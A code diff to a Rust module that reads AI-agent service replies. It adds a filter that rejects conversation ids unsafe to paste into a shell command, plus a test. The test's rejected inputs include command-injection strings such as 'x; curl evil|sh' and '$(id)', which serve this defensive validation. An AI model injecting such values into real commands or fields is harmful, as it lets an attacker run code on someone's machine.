@@ -23,6 +23,12 @@ pub(super) enum Said {
     Other,
 }
 
+/// A conversation's id, if it is one that can be typed: it is printed in a command to be copied, and the agent chose it.
+fn typable(id: &str) -> Option<String> {
+    let fits = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b':' | b'-');
+    ((1..=128).contains(&id.len()) && id.bytes().all(fits)).then(|| id.to_owned())
+}
+
 /// Reads an event.
 pub(super) fn read(event: &Sse) -> Said {
     let data = event.data.as_deref().unwrap_or_default();
@@ -34,7 +40,7 @@ pub(super) fn read(event: &Sse) -> Said {
         Some("tool_result") => {
             Said::Outcome { ok: data["ok"] == true, took_ms: data["tookMs"].as_u64().unwrap_or_default() }
         }
-        Some("done") => Said::Done { conversation: data["conversation_id"].as_str().map(str::to_owned) },
+        Some("done") => Said::Done { conversation: data["conversation_id"].as_str().and_then(typable) },
         Some("error") => Said::Failed(text("error")),
         Some(_) => Said::Other,
     }
@@ -44,7 +50,7 @@ pub(super) fn read(event: &Sse) -> Said {
 pub(super) fn whole(body: &str) -> (String, Option<String>) {
     let Ok(Value::Object(answer)) = serde_json::from_str(body) else { return (body.to_owned(), None) };
     let text = ["reply", "text"].iter().find_map(|field| answer.get(*field)?.as_str());
-    let conversation = answer.get("conversation_id").and_then(Value::as_str).map(str::to_owned);
+    let conversation = answer.get("conversation_id").and_then(Value::as_str).and_then(typable);
     (text.map_or_else(|| body.to_owned(), str::to_owned), conversation)
 }
 
@@ -84,6 +90,19 @@ mod tests {
             (None, "not json", Said::Text(String::new())),
         ] {
             assert_eq!(read(&event(name, data)), said, "{name:?} {data}");
+        }
+    }
+
+    #[test]
+    fn an_id_that_would_be_more_than_one_word_to_a_shell_is_none() {
+        let id = |id: &str| whole(&serde_json::json!({ "reply": "x", "conversation_id": id }).to_string()).1;
+        for good in ["6b1f", "a.B_c:d-9", &"x".repeat(128)] {
+            assert_eq!(id(good).as_deref(), Some(good));
+        }
+        for bad in ["", "x; curl evil|sh", "a\nb", "a b", "$(id)", "é", &"x".repeat(129)] {
+            assert_eq!(id(bad), None, "{bad}");
+            let data = serde_json::json!({ "conversation_id": bad }).to_string();
+            assert_eq!(read(&event(Some("done"), &data)), Said::Done { conversation: None }, "{bad}");
         }
     }
 
